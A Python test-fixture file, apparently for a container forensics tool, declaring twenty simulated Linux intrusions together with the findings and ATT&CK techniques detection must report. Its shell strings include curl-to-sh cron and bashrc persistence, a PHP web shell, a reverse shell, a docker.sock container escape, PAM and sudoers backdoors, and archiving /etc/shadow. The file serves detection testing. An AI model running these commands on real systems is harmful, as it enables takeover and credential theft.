"""Intrusions as they are played for real, each declared once: what is done, what it leaves, and what must be told of it.

They are played in Debian (`runtimes/debian.py`), by bash as root, with the programs of `programs/` in /programs, which
stands for wherever an intruder brings tools from. `test_findings.py` and `tests/detection/run` hold Exhibit against them.
"""

from dataclasses import dataclass

DOCKER_SOCKET = "/var/run/docker.sock"


@dataclass(frozen=True)
class Told:
    """One finding that there must be, with a reason's id (evidence/findings/RULES.md) and its technique of ATT&CK."""

    kind: str
    subject: str
    """A path in the container; of a process, its name (comm)."""
    reason: str
    technique: str

    def is_told_by(self, finding):
        """By a finding of `exhibit diff --json` or `exhibit drift --json`."""
        if finding["kind"] != self.kind:
            return False
        return self.subject == (comm_in(finding) if self.kind == "process" else finding["path"])


def comm_in(finding):
    """Of `pid 42 sh` in a diff and `pid 42 (sh)` in a drift."""
    comm = finding["name"].split(" ", 2)[2]
    return comm[1:-1] if finding.get("verdict") else comm


@dataclass(frozen=True)
class Intrusion:
    name: str
    does: str
    told: Told
    leaves: tuple[str, ...] = ()
    """Every path that it makes, changes or takes away, without the folders that these merely lie in."""
    runs: tuple[str, ...] = ()
    """The programs of the processes that go on, one each; of what was deleted or never was a file, as it was called."""
    needs_docker: bool = False
    """The container has the socket of the Docker that runs it."""

    @property
    def subjects(self):
        """What an examiner has to be told of: the paths it leaves, and the process that it is about."""
        return (*self.leaves, *((f"process {self.told.subject}",) if self.told.kind == "process" else ()))


def file(path, reason, technique):
    return Told("file", path, reason, technique)


def process(name, reason, technique):
    return Told("process", name, reason, technique)


INTRUSIONS = (
    Intrusion(
        "cron job",
        "echo '*/5 * * * * root curl -s http://198.51.100.7/a | sh' >/etc/cron.d/php-session",
        file("/etc/cron.d/php-session", "cron", "T1053.003"),
        leaves=("/etc/cron.d/php-session",),
    ),
    Intrusion(
        "ssh key",
        """
        mkdir -m 700 /root/.ssh
        echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm2b1h6c0 root@db1' >/root/.ssh/authorized_keys
        """,
        file("/root/.ssh/authorized_keys", "ssh-key", "T1098.004"),
        leaves=("/root/.ssh", "/root/.ssh/authorized_keys"),
    ),
    Intrusion(
        "setuid shell",
        "install -m 4755 /bin/bash /usr/local/bin/backup-helper",
        file("/usr/local/bin/backup-helper", "setuid", "T1548.001"),
        leaves=("/usr/local/bin/backup-helper",),
    ),
    Intrusion(
        "ld.so.preload",
        """
        cp /lib/x86_64-linux-gnu/libz.so.1 /lib/x86_64-linux-gnu/libdns-cache.so
        echo /lib/x86_64-linux-gnu/libdns-cache.so >/etc/ld.so.preload
        """,
        file("/etc/ld.so.preload", "ld-preload", "T1574.006"),
        leaves=("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libdns-cache.so"),
    ),
    Intrusion(
        "web shell",
        """echo '<?php system($_GET["c"]);' >/var/www/html/cache.php && chown www-data: /var/www/html/cache.php""",
        file("/var/www/html/cache.php", "web-script", "T1505.003"),
        leaves=("/var/www/html/cache.php",),
    ),
    Intrusion(
        "trojaned binary",  # of the same size and modification time, in the same inode
        """
        python3 - <<'END'
        import os
        before = os.stat("/usr/bin/ls")
        with open("/usr/bin/ls", "r+b") as program:
            content = program.read().replace(b"LS_COLORS", b"LS_COLOUR")
            program.seek(0)
            program.write(content)
        os.utime("/usr/bin/ls", ns=(before.st_atime_ns, before.st_mtime_ns))
        END
        """,
        file("/usr/bin/ls", "other-content-same-look", "T1554"),
        leaves=("/usr/bin/ls",),
    ),
    Intrusion(
        "PAM",
        "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth",
        file("/etc/pam.d/common-auth", "pam", "T1556.003"),
        leaves=("/etc/pam.d/common-auth",),
    ),
    Intrusion(
        "memfd implant",
        "/programs/holder memfd </dev/null >/dev/null 2>&1 &",
        process(r"memfd:payload\n(", "memfd-executable", "T1620"),
        runs=("/memfd:payload\n(deleted)",),
    ),
    Intrusion(
        "deleted miner",
        """
        cp /programs/holder /tmp/kdevtmpfsi
        /tmp/kdevtmpfsi -o stratum+tcp://198.51.100.9:3333 -u wallet </dev/null >/dev/null 2>&1 &
        sleep 0.1
        rm /tmp/kdevtmpfsi
        """,
        process("kdevtmpfsi", "deleted-executable", "T1070.004"),
        runs=("/tmp/kdevtmpfsi",),
    ),
    Intrusion(
        "reverse shell",
        "/programs/reverse_shell 4444 </dev/null >/dev/null 2>&1 &",
        process("sh", "shell-on-socket", "T1059.004"),
        runs=("/usr/bin/dash", "/programs/reverse_shell"),  # the latter is its other end, elsewhere in earnest
    ),
    Intrusion(
        "docker.sock",  # makes a container that has the host's root, and goes on listening
        """
        cat >/opt/api.py <<'END'
        import json, socket, sys
        def ask(request, body=""):
            docker = socket.socket(socket.AF_UNIX)
            docker.connect(sys.argv[1])
            head = f"{request} HTTP/1.1\\r\\nHost: d\\r\\nContent-Type: application/json\\r\\nContent-Length: {len(body)}"
            docker.sendall(f"{head}\\r\\n\\r\\n{body}".encode())
            return docker, docker.recv(4096)
        spec = {"Image": sys.argv[2], "Cmd": ["sh"], "HostConfig": {"Binds": ["/:/host"], "Privileged": True}}
        _, answer = ask("POST /containers/create?name=escape", json.dumps(spec))
        print(answer.split(b"\\r\\n")[0].decode(), flush=True)
        events, _ = ask("GET /events")
        while events.recv(4096): pass
        END
        python3 /opt/api.py /var/run/docker.sock debian-web </dev/null >/opt/api.log 2>&1 &
        """,
        process("python3", "runtime-client", "T1610"),
        leaves=("/opt/api.py", "/opt/api.log"),
        runs=("/usr/bin/python3.11",),
        needs_docker=True,
    ),
    Intrusion(
        "hidden in /dev/shm",
        "mkdir /dev/shm/.ICE && cp /programs/holder /dev/shm/.ICE/kauditd",
        file("/dev/shm/.ICE/kauditd", "program-in-memory-place", "T1564"),
        leaves=("/dev/shm/.ICE", "/dev/shm/.ICE/kauditd"),
    ),
    Intrusion(
        "timestomp",
        """
        printf '#!/bin/sh\\nexec /bin/sh -p\\n' >/usr/bin/lspkg
        chmod 755 /usr/bin/lspkg
        touch -r /usr/bin/env /usr/bin/lspkg
        """,
        file("/usr/bin/lspkg", "older-than-its-birth", "T1070.006"),
        leaves=("/usr/bin/lspkg",),
    ),
    Intrusion(
        "package hook",
        """echo 'DPkg::Post-Invoke {"/usr/bin/true";};' >/etc/apt/apt.conf.d/99-cache""",
        file("/etc/apt/apt.conf.d/99-cache", "package-hook", "T1546.016"),
        leaves=("/etc/apt/apt.conf.d/99-cache",),
    ),
    Intrusion(
        "shell profile",
        "echo '(curl -s http://198.51.100.7/b | sh &) 2>/dev/null' >>/etc/bash.bashrc",
        file("/etc/bash.bashrc", "shell-profile", "T1546.004"),
        leaves=("/etc/bash.bashrc",),
    ),
    Intrusion(
        "systemd unit",
        """
        printf '[Service]\\nExecStart=/usr/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n' \\
            >/etc/systemd/system/dbus-fetch.service
        ln -s /etc/systemd/system/dbus-fetch.service /etc/systemd/system/multi-user.target.wants/
        """,
        file("/etc/systemd/system/dbus-fetch.service", "systemd-unit", "T1543.002"),
        leaves=(
            "/etc/systemd/system/dbus-fetch.service",
            "/etc/systemd/system/multi-user.target.wants/dbus-fetch.service",
        ),
    ),
    Intrusion(
        "sudoers",
        "echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/90-cloud && chmod 440 /etc/sudoers.d/90-cloud",
        file("/etc/sudoers.d/90-cloud", "sudoers", "T1548.003"),
        leaves=("/etc/sudoers.d/90-cloud",),
    ),
    Intrusion(
        "capable interpreter",  # cap_setuid, effective and permitted: struct vfs_cap_data, revision 2
        """python3 -c 'import os; os.setxattr("/usr/bin/python3.11", "security.capability",
            bytes.fromhex("0100000280000000000000000000000000000000"))'""",
        file("/usr/bin/python3.11", "file-capabilities", "T1548"),
        leaves=("/usr/bin/python3.11",),
    ),
    Intrusion(
        "renamed tool",
        "mv /usr/bin/base64 /usr/bin/sysmon",
        file("/usr/bin/sysmon", "system-tool-moved", "T1036.003"),
        leaves=("/usr/bin/base64", "/usr/bin/sysmon"),
    ),
    Intrusion(
        "staged archive",
        "tar -czf /var/tmp/b.tgz -C /etc shadow ssh",
        file("/var/tmp/b.tgz", "archive-staged", "T1074.001"),
        leaves=("/var/tmp/b.tgz",),
    ),
)
